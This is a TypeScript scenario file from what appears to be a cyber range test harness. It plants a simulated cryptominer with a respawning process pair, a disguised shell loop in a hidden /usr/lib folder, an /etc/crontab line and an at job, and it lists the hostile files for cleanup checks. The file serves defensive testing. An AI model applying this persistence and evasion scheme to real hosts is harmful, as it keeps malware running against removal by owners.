// Two processes that keep each other alive within half a second, each time under a new random name with a fresh copy of the program; a shell loop that keeps
// the pair, and cron and at that keep the loop. Whoever kills what is busy loses; whoever kills everything at once loses to the schedule.
import type { RangeHost } from '../host.ts'
import { world } from '../net.ts'
import { standIn } from '../stand-ins/stand-ins.ts'
import { decoyFiles, decoyProcesses, plantDecoys } from './decoys.ts'
import { fakeWallet, untilMining } from './mining.ts'
import { append, put, putProgram } from './plant.ts'
import { hostileAlive, type HostileFile, type Scenario } from './scenario.ts'

const folder = '/usr/lib/.labudev'
const store = `${folder}/libudev4.so`
const loop = `${folder}/udev-sync`
const cronLine = `* * * * * root ${loop} >/dev/null 2>&1`
/** Seconds after which everything of the pair ends by itself, whatever the test does. */
const lifetime = 1100

/** One loop at a time; it starts a fresh copy when neither of the pair answers. */
const loopText = `#!/bin/sh
# keeps the device database in step
d=${folder}
kill -0 "$(cat $d/.loop 2>/dev/null)" 2>/dev/null && exit 0
echo $$ >$d/.loop
i=0
while [ $i -lt ${String(lifetime * 2)} ] && sleep 0.4; do
  i=$((i + 1))
  kill -0 "$(cat $d/.a 2>/dev/null)" 2>/dev/null && continue
  kill -0 "$(cat $d/.b 2>/dev/null)" 2>/dev/null && continue
  n=$d/$(tr -dc a-z </dev/urandom | head -c 10)
  rm -f "$(cat $d/.a.name 2>/dev/null)"
  cp ${store} "$n" && chmod 755 "$n" || continue
  "$n" a $d ${String(lifetime)} -o stratum+tcp://pool.range.test:${String(world.poolPort)} -u ${fakeWallet} >/dev/null 2>&1 &
  sleep 0.4
done
`

const hostileFiles: readonly HostileFile[] = [
  { path: loop, remove: 'whole' },
  { path: '/etc/crontab', remove: { lines: [cronLine] } },
  { path: '/var/spool/cron/atjobs/a*', remove: 'whole' },
]

export const watchdogPair: Scenario = {
  name: 'watchdog-pair',
  about:
    'two processes that restart each other under new names, a shell loop that restarts both, cron and at that restart the loop',
  plant: async (host) => {
    await plantDecoys(host)
    putProgram(host, store, standIn('labtwin'), { daysOld: 0 })
    put(host, loop, loopText, { mode: 0o755, daysOld: 0 })
    append(host, '/etc/crontab', cronLine)
    await host.sh('echo "$1" | at now + 45 minutes 2>/dev/null', loop)
    await host.startIn('cron.service', ['/bin/sh', loop])
    await untilMining(host, watchdogPair)
    await untilPaired(host)
  },
  hostileFiles,
  dormantFiles: [{ path: store, remove: 'whole' }],
  attackerFolders: [folder],
  hostileProcesses: [{ contains: folder }],
  decoyFiles,
  decoyProcesses,
  revivePeriod: 60,
  expectedUndoFiles: hostileFiles.map(({ path }) => path),
}

/** Resolves when both twins and the loop run. */
async function untilPaired(host: RangeHost): Promise<void> {
  const deadline = Date.now() + 20_000
  while (hostileAlive(watchdogPair, host).length < 3) {
    if (Date.now() > deadline) throw new Error(`the pair does not run on ${host.name}`)
    await new Promise((resolve) => setTimeout(resolve, 50))
  }
}
